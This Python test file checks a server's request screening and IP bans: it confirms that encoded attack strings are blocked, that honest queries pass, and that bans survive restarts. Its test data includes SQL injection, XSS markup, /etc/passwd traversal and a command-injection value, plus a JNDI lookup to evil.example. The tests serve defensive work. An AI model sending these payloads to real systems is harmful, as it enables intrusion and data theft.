"""Request screening and bans on the real program, over a socket: the contract's rows, strikes, the allow-list, a restart."""

import json
import subprocess
import unittest
import urllib.parse

from support import Case, Server, program, wait_for

SOURCE = """
    from interlock import task

    @task
    def echo(text: str = "") -> str:
        "Gives back what it got."
        return text
"""
ATTACK = "/tasks?filter=';%20DROP%20TABLE%20tasks;%20--"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def ask(server, path, token=None, **options):
    with server.http(token) as client:
        return client.get(path, **options)


class TheContract(Case):
    """Section 11, on a server that trusts 127.0.0.1 so that no test bans another."""

    SOURCE = SOURCE
    VARIABLES = {"BAN_ALLOW": "127.0.0.0/8"}
    ADD_USERS = ("vera", "olaf")

    def test_sql_in_a_query_is_blocked_with_and_without_a_token(self):
        for token in (None, self.server.token("vera"), "garbage"):
            body = self.assertProblem(ask(self.server, ATTACK, token), 400, "request_blocked")
            for word in ("sql", "drop", "filter", "rule", "'"):
                self.assertNotIn(word, body["detail"].lower())

    def test_every_encoding_of_an_attack_is_blocked(self):
        for attack in ("<script>alert(1)</script>", "' or '1'='1", "../../etc/passwd", "1 UNION SELECT NULL,NULL",
                       "; cat /etc/passwd", "{{7*7}}", "${jndi:ldap://evil.example/a}", "*)(uid=*", '{"$gt": ""}'):
            once = urllib.parse.quote(attack, safe="")
            twice = urllib.parse.quote(once, safe="")
            entities = urllib.parse.quote("".join("&#x%x;" % ord(c) for c in attack), safe="")
            for text in (once, once.lower(), twice, entities):
                with self.subTest(text=text):
                    self.assertProblem(ask(self.server, "/tasks?q=" + text), 400, "request_blocked")

    def test_honest_queries_are_answered(self):
        for query in ("filter=select", "q=drop+table+of+reagents", "action=plate..csv", "action=a%2Fb", "q=O%27Brien",
                      "q=javascript:%20the%20good%20parts", "q=50%25+EtOH", "q=x+%3C+y+and+y+%3E+z", "limit=5"):
            with self.subTest(query=query):
                self.assertEqual(ask(self.server, "/runs?" + query, self.server.token("vera")).status_code, 200)

    def test_a_script_as_a_name_is_401_for_strangers_and_blocked_for_administrators(self):
        user = {"name": "<script>alert(1)</script>", "password": "seven purple pipettes", "roles": ["viewer"]}
        with self.server.http() as client:
            self.assertProblem(client.post("/users", json=user), 401, "unauthorized")
        with self.server.as_user("vera") as client:
            self.assertProblem(client.post("/users", json=user), 403, "forbidden")
        with self.server.as_user("admin") as client:
            self.assertProblem(client.post("/users", json=user), 400, "request_blocked")

    def test_parameters_come_back_as_they_were_sent_and_are_observed(self):
        before = len(self.server.events("pattern_observed"))
        answer = self.server.run("echo", {"text": MARKUP}, user="olaf")
        self.assertEqual(answer.status_code, 200, answer.text)
        self.assertEqual(answer.json()["result"], MARKUP)
        self.assertEqual(answer.headers["content-type"], "application/json")
        run = self.server.run_of(answer.json()["run_id"], "vera")
        self.assertEqual(run["parameters"], {"text": MARKUP})
        seen = wait_for(lambda: self.server.events("pattern_observed")[before:], "the event")
        self.assertEqual(seen[0]["details"]["place"], "free_text")

    def test_proxy_headers_and_odd_user_agents_are_served(self):
        for headers in ({"X-Real-IP": "203.0.113.7", "X-Forwarded-For": "203.0.113.7"}, {"User-Agent": ""},
                        {"User-Agent": "ESP32"}, {"User-Agent": "sqlmap/1.8"}):
            self.assertEqual(ask(self.server, "/health", headers=headers).status_code, 200, headers)

    def test_a_stop_with_any_words_stops(self):
        with self.server.as_user("vera") as client:
            answer = client.post("/stop?x=%3Cscript%3E", json={"reason": MARKUP}, headers={"Referer": "' or 1=1--"})
        self.assertEqual(answer.status_code, 200, answer.text)
        self.assertEqual(answer.json()["reason"], MARKUP)
        with self.server.as_user("admin") as client:
            self.assertEqual(client.post("/stop/release", json={"reason": "test over"}).status_code, 200)

    def test_the_allow_list_wins(self):
        for _ in range(12):
            self.assertProblem(ask(self.server, ATTACK), 400, "request_blocked")
        self.assertHealthy()
        self.assertEqual(self.server.get("/bans").json(), [])

    def test_metrics_count_by_family_and_the_log_holds_no_payload(self):
        self.assertProblem(ask(self.server, "/tasks?q=%3Csvg%20onload=alert(4711)%3E"), 400, "request_blocked")
        text = ask(self.server, "/metrics").text
        counted = [line for line in text.splitlines() if line.startswith("orchestrator_blocked_requests_total{")]
        self.assertTrue(any('reason="markup"' in line and not line.endswith(" 0") for line in counted), counted)
        self.assertTrue(any('reason="ldap"' in line for line in counted), counted)
        self.assertIn("interlock_observed_patterns_total", text)
        self.assertNotIn("4711", self.server.log())
        for row in self.server.audit(action="request.blocked"):
            self.assertNotIn("alert", json.dumps(row))


class Bans(unittest.TestCase):
    """Strikes lead to 403, which a restart does not lift; an administrator on the machine does."""

    def test_five_attacks_ban_and_a_restart_keeps_the_ban(self):
        with Server(SOURCE) as server:
            token = server.token("admin")
            for _ in range(5):
                self.assertEqual(ask(server, ATTACK).json()["code"], "request_blocked")
            blocked = ask(server, "/health")
            self.assertEqual((blocked.status_code, blocked.json()["code"]), (403, "client_blocked"))
            self.assertTrue(3000 < int(blocked.headers["retry-after"]) <= 3601, blocked.headers)
            self.assertEqual(ask(server, "/users", token).status_code, 403)
            # The stop and the probes stay open.
            self.assertEqual(ask(server, "/health/live").status_code, 200)
            with server.http(token) as client:
                self.assertEqual(client.post("/stop").status_code, 200)
            self.assertEqual(len(server.events("ip_blocked")), 1)

            server.restart()
            self.assertEqual(ask(server, "/health").status_code, 403)

            # The way back in, without a server.
            listed = self.command(server, "list", "--output", "json")
            self.assertEqual([ban["network"] for ban in json.loads(listed)], ["127.0.0.1/32"])
            self.command(server, "remove", "127.0.0.1/32")
            wait_for(lambda: ask(server, "/health").status_code == 200, "the ban is lifted in the running server")
            rows = [row["action"] for row in server.audit() if row["action"].startswith("ban.")]
            self.assertEqual(rows, ["ban.imposed", "ban.removed"])

    def command(self, server, *words):
        done = subprocess.run([program(), "security", "bans", *words, "--state", server.state], env=server.variables,
                              capture_output=True, timeout=60, check=False)
        self.assertEqual(done.returncode, 0, done.stderr.decode())
        return done.stdout.decode()

    def test_a_ban_of_another_process_is_noticed(self):
        with Server(SOURCE) as server:
            self.assertEqual(ask(server, "/health").status_code, 200)
            self.command(server, "add", "127.0.0.0/8", "--reason", "test", "--for", "1h")
            wait_for(lambda: ask(server, "/health").status_code == 403, "the ban is in force")

    def test_observing_neither_refuses_nor_bans(self):
        for text in ("false", "observe"):
            with Server(SOURCE, variables={"BLOCK_SUSPICIOUS_PATTERNS": text}) as server:
                for _ in range(8):
                    self.assertEqual(ask(server, ATTACK, server.token()).status_code, 200)
                self.assertTrue(any("only recorded" in str(line["details"]) for line in server.events("config_insecure")))
                self.assertGreaterEqual(len(server.events("pattern_observed")), 8)
                self.assertEqual(server.get("/bans").json(), [])

    def test_reasons_are_held_to_the_rules_of_titles_when_asked(self):
        with Server(SOURCE, variables={"BLOCK_SUSPICIOUS_TEXT": "true"}) as server:
            with server.as_user("admin") as client:
                self.assertEqual(client.post("/stop").status_code, 200)
                answer = client.post("/stop/release", json={"reason": MARKUP})
                self.assertEqual((answer.status_code, answer.json()["code"]), (400, "request_blocked"))
                answer = client.post("/stop/release", json={"reason": "Drop table of reagents is back"})
                self.assertEqual(answer.status_code, 200, answer.text)

    def test_nonsense_stops_the_start(self):
        for name, text in (("BLOCK_SUSPICIOUS_PATTERNS", "maybe"), ("BAN_ALLOW", "lab.example")):
            server = Server(SOURCE, variables={name: text})
            try:
                code, said = server.refused()
                self.assertNotEqual(code, 0)
                self.assertIn({"BAN_ALLOW": "ban_allow"}.get(name, "patterns"), said)
            finally:
                server.close()


if __name__ == "__main__":
    unittest.main()
